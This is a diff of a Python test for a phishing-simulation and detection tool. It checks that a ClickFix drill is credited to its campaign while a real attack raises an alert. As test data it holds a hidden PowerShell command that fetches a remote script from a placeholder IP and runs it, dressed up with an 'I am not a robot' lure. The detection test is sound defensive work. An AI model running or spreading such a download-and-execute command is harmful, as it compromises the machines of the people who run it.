@@ -1,9 +1,8 @@
 """A ClickFix run carrying a live simulation token is a drill, not an incident."""
 
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 
 from django.conf import settings
-from django.utils import timezone
 
 from clinicshield.accounts.models import Person
 from clinicshield.monitoring.actions import do_run_detection
@@ -12,6 +11,8 @@ from clinicshield.simulations import actions as simulations
 from clinicshield.simulations.models import Campaign, Recipient
 
 from .conftest import write_events
+
+NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
 
 RUNMRU = r"HKU\S-1-5-21-7\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\b"
 
@@ -31,8 +32,10 @@ def launched_clickfix_campaign(org, smtp):
         base_url="http://testserver",
         actor="test",
     )
-    simulations.do_launch_campaign(campaign, timezone.now(), immediately=True, actor="test")
-    simulations.do_send_due(campaign.pk, timezone.now())
+    simulations.do_launch_campaign(
+        campaign, NOW - timedelta(hours=1), immediately=True, actor="test"
+    )
+    simulations.do_send_due(campaign.pk, NOW - timedelta(hours=1))
     return campaign
 
 
@@ -54,7 +57,7 @@ def test_the_drill_is_credited_to_its_campaign_and_the_real_attack_raises_an_ale
 ):
     campaign = launched_clickfix_campaign(org_a, smtp_server)
     token = Recipient.objects.get(campaign=campaign).token
-    now = timezone.now()
+    now = NOW
     chrome = '"C:\\Program Files\\Google\\Chrome\\chrome.exe"'
     drill = f'{chrome} "http://testserver/s/{token}#  I am not a robot"\\1'
     attack = "powershell -w hidden -c iwr http://203.0.113.7/a.ps1 | iex # I am not a robot\\1"
